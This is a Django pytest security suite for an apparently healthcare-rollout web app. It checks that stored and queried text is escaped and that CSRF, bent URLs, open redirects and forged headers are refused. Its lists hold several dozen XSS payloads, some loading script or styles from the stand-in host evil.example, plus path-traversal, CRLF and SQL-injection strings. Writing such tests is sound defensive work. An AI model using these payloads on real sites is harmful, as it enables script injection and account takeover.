"""What hostile hands send or store: text that would be markup, bent addresses, forged headers, no token."""

import itertools
from collections.abc import Iterator
from urllib.parse import quote

import pytest
from django.db import models
from django.db.models import CharField, TextField
from django.test import Client
from django.urls import reverse

from readiness.models import ChecklistEvent, ChecklistItem, EvidenceFile, Waiver
from rollout.choices import Role
from rollout.models import Comment, Deployment, Measure, Organisation, Programme, Site, Ward, Wave
from tests import factories as make
from tests.examples import PROFILE
from tests.pages import text_of
from tests.tenants import ADDRESS_PARTS, Company, Tenant, make_tenant
from training.models import Course, ShiftPattern, StaffMember, TrainingSession

BREAKS = (
    "",
    "'",
    '"',
    "'>",
    '">',
    "</title>",
    "</textarea>",
    "<!--",
    "-->",
    "]]>",
    "{{",
    "{%",
    "`",
    "\u2028",
    "\u202e",
)
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<template><script>alert(1)</script></template>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=data:text/html,x></object>",
    "<script/src=//evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E<b>",
    "&lt;script&gt;<b>",
    "{{ 7|add:'7' }}<b>",
    "{% debug %}<b>",
    "${alert(1)}<b>",
    "<b onmouseover=alert(1)>x</b>",
    "<x/onclick=alert(1)>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<body onload=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<table background=javascript:alert(1)>",
    "<q/oncut=alert(1)>",
)
HOSTILE = [a + b for a, b in itertools.product(BREAKS, ATTACKS)]


def test_there_are_as_many_hostile_strings_as_promised():
    assert len(set(HOSTILE)) >= 500


@pytest.fixture
def tenant(db: None) -> Tenant:
    return make_tenant("Alder")


@pytest.fixture
def administrator(tenant: Tenant) -> Client:
    client = Client()
    client.force_login(make.make_member(Role.ADMINISTRATOR))
    return client


def text_fields(model: type[models.Model]) -> list[str]:
    """Columns that take any words."""
    return [
        field.name
        for field in model._meta.concrete_fields
        if isinstance(field, CharField | TextField)
        and not field.choices
        and field.name not in ("code", "time_zone", "postcode", "support_number", "retired_reason", "number", "sha256")
    ]


def shown_pages(tenant: Tenant) -> list[str]:
    own = [reverse(name, kwargs=tenant.address(name)) for name in ADDRESS_PARTS]
    return [*own, "/programmes/", "/account/"]


# Whose words stand on pages.
SHOWN = (
    *(Organisation, Programme, Site, Ward, Wave, Measure, Deployment),
    *(StaffMember, Course, TrainingSession, ShiftPattern),
    *(ChecklistItem, ChecklistEvent, EvidenceFile, Waiver, Comment),
)


def as_many_as_fit(strings: Iterator[str], longest: int | None) -> list[str]:
    """The next few hostile strings: as many as a column holds, parted by spaces; the first alone may be cut."""
    found = [next(strings)[:longest]]
    while len(found) < 12 and (longest is None or len(" ".join(found)) + 120 < longest):
        found.append(next(strings))
    return found


def test_hostile_text_is_shown_as_text(tenant: Tenant, administrator: Client):
    rows = {model: model._default_manager.all() for model in SHOWN}
    strings: Iterator[str] = itertools.cycle(HOSTILE)
    tried: set[str] = set()
    raw, rounds = [], 0
    while not tried.issuperset(HOSTILE):
        stored = []
        for model, found in rows.items():
            for name in text_fields(model):
                texts = as_many_as_fit(strings, model._meta.get_field(name).max_length)
                found.update(**{name: " ".join(texts)})
                stored += texts
        # By day every round reads some of the pages, and the next round others.
        some = slice(None) if PROFILE == "night" else slice(rounds % 6, None, 6)
        rounds += 1
        pages = [text_of(administrator.get(address)) for address in shown_pages(tenant)[some]]
        raw += [text for text in stored if "<" in text and any(text in page for page in pages)]
        tried.update(stored)

    assert raw == []


def test_hostile_names_are_escaped_where_they_are_shown(tenant: Tenant, administrator: Client):
    Site.objects.update(name="<script>alert(1)</script>")
    Programme.objects.update(name='"><img src=x onerror=alert(1)>', goal="<svg/onload=alert(1)>")

    text = administrator.get(reverse("readiness:deployment-list", kwargs={"programme": tenant.programme.code})).text

    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in text
    assert "&lt;svg/onload=alert(1)&gt;" in text


ASKED = (ATTACKS[0], f'">{ATTACKS[1]}', f"'{ATTACKS[2]}", f"</title>{ATTACKS[7]}", "{{ 7 }}<b>")


QUERIES = (
    *("q", "sort", "band", "page", "wave", "seen", "live", "as_of"),
    *("revision", "next", "since", "saved", "columns", "view", "show"),
)


@pytest.mark.parametrize("name", QUERIES)
@pytest.mark.parametrize("each", [1, pytest.param(len(ASKED), marks=pytest.mark.night)])
def test_hostile_query_is_shown_as_text(name: str, each: int, tenant: Tenant, administrator: Client):
    """By day each page is asked a third of the names with one of the texts, in turn; by night all of them."""
    raw = []
    some = slice(None) if PROFILE == "night" else slice(QUERIES.index(name) % 3, None, 3)
    for number, address in list(enumerate(shown_pages(tenant)))[some]:
        for text in [*ASKED, *ASKED][number % len(ASKED) :][:each]:
            answer = administrator.get(address, {name: text})
            if answer.status_code >= 500 or text in text_of(answer):
                raw.append((address, text, answer.status_code))

    assert raw == []


# State changes -------------------------------------------------------------------------------------------------------

WRITING = (
    "readiness:view-list",
    "readiness:view-detail",
    "readiness:run-list",
    "readiness:checklist-item",
    "readiness:checklist-adopt",
    "readiness:template-list",
    "readiness:gate-settings",
    "readiness:wave-list",
    "readiness:priority-review",
    "readiness:bundle-list",
    "readiness:deployment-comments",
    "rollout:account-device",
    "rollout:account-log-out-elsewhere",
    "rollout:sign-out",
)


@pytest.mark.parametrize("body", ["", "form", "text/plain", "other origin"])
@pytest.mark.parametrize("name", WRITING)
def test_nothing_is_written_without_a_token(name: str, body: str, tenant: Tenant):
    client = Client(enforce_csrf_checks=True)
    client.force_login(make.make_member(Role.PROGRAMME_MANAGER, programme=tenant.programme))
    address = reverse(name, kwargs=tenant.address(name))
    token = client.get("/account/").context["csrf_token"] if body == "other origin" else ""
    data = {"first_day": "2026-03-14", "csrfmiddlewaretoken": str(token)}
    ways = {
        "": {},
        "form": {"data": {"first_day": "2026-03-14"}},
        "text/plain": {"data": "first_day=2026-03-14", "content_type": "text/plain"},
        "other origin": {"data": data, "headers": {"Origin": "https://evil.example"}},
    }

    assert client.post(address, **ways[body]).status_code == 403


# Addresses -----------------------------------------------------------------------------------------------------------

BENT = (
    "/p/",
    "/p//sites/",
    "/p/%2e%2e/sites/",
    "/p/../admin/health/",
    "/p/{code}//sites/",
    "/p/{code}/sites/extra/",
    "/p/{lower}/sites/",
    "/p/{code}%00/sites/",
    "/p/{code}%0d%0aSet-Cookie:x=1/sites/",
    "/p/{code}/s/",
    "/p/{code}/s/{long}/",
    "/p/{code}/s/%F0%9F%8F%A5/",
    "/p/{code}/s/'%20OR%201=1--/",
    "/p/{code}/s/0/",
    "/p/{code}/s/-1/",
    "/p/{code}/runs/0/",
    "/p/{code}/runs/-1/",
    "/p/{code}/runs/00000001/",
    "/p/{code}/runs/9223372036854775808/",
    "/p/{code}/runs/1e3/",
    "/p/{code}/runs/%31%00/",
    "/admin/health/0/",
    "/admin/health/{long}/",
    "/programmes/x/",
)


@pytest.mark.parametrize("address", BENT)
def test_bent_address_leads_nowhere(address: str, tenant: Tenant, administrator: Client):
    code = tenant.programme.code
    address = address.format(code=code, lower=code.lower(), long="9" * 300)

    assert administrator.get(address).status_code == 404


def test_missing_slash_is_mended_on_reading_alone(tenant: Tenant, administrator: Client):
    read = administrator.get("/programmes")

    assert (read.status_code, read.headers["Location"]) == (301, "/programmes/")
    assert administrator.post("/programmes").status_code == 404


@pytest.mark.parametrize(
    "then",
    ["//evil.example", "https://evil.example/", "/\\evil.example", "javascript:alert(1)", "/%0d%0aX: 1", "\\\\evil"],
)
def test_log_in_leads_to_no_other_site(then: str, db: None, client: Client):
    user = make.make_user(email="ana@example.org")
    user.set_password(make.PASSWORD)
    user.save()

    answer = client.post(f"/log-in/?next={quote(then)}", {"email": user.email, "password": make.PASSWORD, "next": then})

    assert answer.status_code == 302
    assert "evil" not in answer.headers["Location"]
    assert "\r" not in answer.headers["Location"]


@pytest.mark.parametrize(
    "headers",
    [
        {"X-HTTP-Method-Override": "DELETE"},
        {"X-Forwarded-For": "127.0.0.1, 10.0.0.1"},
        {"X-Forwarded-Proto": "https"},
        {"X-Forwarded-Host": "evil.example"},
        {"X-Original-URL": "/admin/health/", "X-Rewrite-URL": "/admin/health/"},
        {"HX-Request": "true", "HX-Target": "working", "HX-Current-URL": "https://evil.example/"},
        {"HX-Request": "true", "HX-Target": "<script>", "HX-Boosted": "true", "HX-Trigger": "x" * 5_000},
        {"Accept": "application/json"},
        {"Authorization": "Basic YWRtaW46YWRtaW4="},
    ],
    ids=lambda headers: next(iter(headers)),
)
def test_forged_headers_open_nothing_and_change_nothing(headers: dict[str, str], tenant: Tenant):
    company = Company(tenant, make_tenant("Birch"))
    address = reverse("readiness:deployment-list", kwargs={"programme": tenant.programme.code})
    inside = company.client("programme_manager_own")

    answers = [
        company.client("programme_manager_other").get(address, headers=headers),
        company.client("administrator").get("/admin/health/", headers=headers),
        inside.get(address, headers=headers),
    ]

    assert [answer.status_code for answer in answers] == [404, 200, 200]
    assert "evil.example" not in "".join(answer.text for answer in answers)


def test_hundred_cookies_are_passed_over(tenant: Tenant, administrator: Client):
    for number in range(100):
        administrator.cookies[f"c{number}"] = "v"

    assert administrator.get("/programmes/").status_code == 200


def test_unknown_host_is_refused(administrator: Client, settings, logged_errors):
    settings.ALLOWED_HOSTS = ["testserver"]
    logged_errors.expect("django.security.DisallowedHost")

    assert administrator.get("/programmes/", headers={"Host": "evil.example"}).status_code == 400
